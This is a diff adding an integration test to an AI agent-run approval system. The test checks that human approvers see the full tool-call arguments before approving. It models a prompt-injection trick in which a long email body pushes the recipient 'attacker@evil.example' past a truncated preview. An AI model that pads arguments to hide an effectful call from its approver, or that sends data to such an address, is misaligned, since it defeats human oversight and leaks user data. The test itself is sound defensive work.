@@ -585,3 +585,54 @@ def test_one_viewer_holds_at_most_a_few_follows(
             return False
 
     wait_for(follows_again, timeout=60, what="alice's follows given back")
+
+
+# ~2 KB of arguments whose decisive part comes after byte 1,024 of their canonical JSON
+# (keys sorted: "body" before "to"), as an injected prompt would pad them.
+PADDED = {"body": "Please find the refund details below. " + "x" * 1900,
+          "to": "attacker@evil.example"}
+
+
+def test_an_approver_reads_the_whole_arguments_and_approves_only_what_was_shown(
+        transcripts: System, namespace: str, control_plane: ControlPlane) -> None:
+    ns = namespace
+    paula = control_plane.issue_kubeconfig("paula", "paula")
+    quinn = control_plane.issue_kubeconfig("quinn", "quinn")
+    # paula: agentrun-approver only (no agentrun-view: the approver role reads transcripts).
+    transcripts.kubectl("create", "rolebinding", "paula-approver", "-n", ns,
+                        f"--clusterrole={APPROVER_CLUSTER_ROLE}", "--user=paula")
+    # quinn may create approvals and read runs, not transcripts.
+    transcripts.kubectl("create", "role", "approvals-only", "-n", ns,
+                        "--verb=create,get,list,watch",
+                        "--resource=agentrunapprovals.agentrun.dev,agentruns.agentrun.dev")
+    transcripts.kubectl("create", "rolebinding", "quinn-approvals-only", "-n", ns,
+                        "--role=approvals-only", "--user=quinn")
+    script = [{"call": "send_email", "args": PADDED}, {"text": "Sent."}]
+    tools = [{"name": "send_email", "effect": "Effectful", "approval": "Required"}]
+    transcripts.apply(in_namespace(agent_run("padded", script, tools=tools), ns))
+    pending = waiting(transcripts, ns, "padded")["status"]["pendingApproval"]
+    assert pending["argsTruncated"] is True
+    assert "attacker@evil.example" not in pending["args"]  # past the first 1,024 bytes
+
+    # The approver reads it whole, with their own identity.
+    held = read(transcripts, paula, ns, "padded")
+    asked = [e for e in held["entries"] if e["kind"] == EntryKind.APPROVAL]
+    assert [e["args"] for e in asked] == [PADDED]
+
+    # Without the transcript, nothing is approved: a sentence, and no AgentRunApproval.
+    blind = as_user(transcripts, quinn, "agentrun", "approve", "padded", "-n", ns)
+    assert blind.returncode == kubectl_plugin.REFUSED, blind.stdout + blind.stderr
+    assert "Not deciding call 1 (send_email) of AgentRun padded" in blind.stderr
+    assert "nothing is approved unseen" in blind.stderr
+    assert "get on transcripts.store.agentrun.dev" in blind.stderr
+    listed = transcripts.kubectl("get", "agentrunapprovals", "-n", ns, "-o", "json")
+    assert json.loads(listed.stdout)["items"] == []
+
+    shown = as_user(transcripts, paula, "agentrun", "approve", "padded", "-n", ns)
+    assert shown.returncode == 0, shown.stdout + shown.stderr
+    assert '"to": "attacker@evil.example"' in shown.stdout
+    assert PADDED["body"] in shown.stdout
+    assert "(cut" not in shown.stdout
+    assert "Accepted (Decided)" in shown.stdout
+    status = settled(transcripts, ns, "padded")["status"]
+    assert status["toolsExecuted"] == ["send_email"]
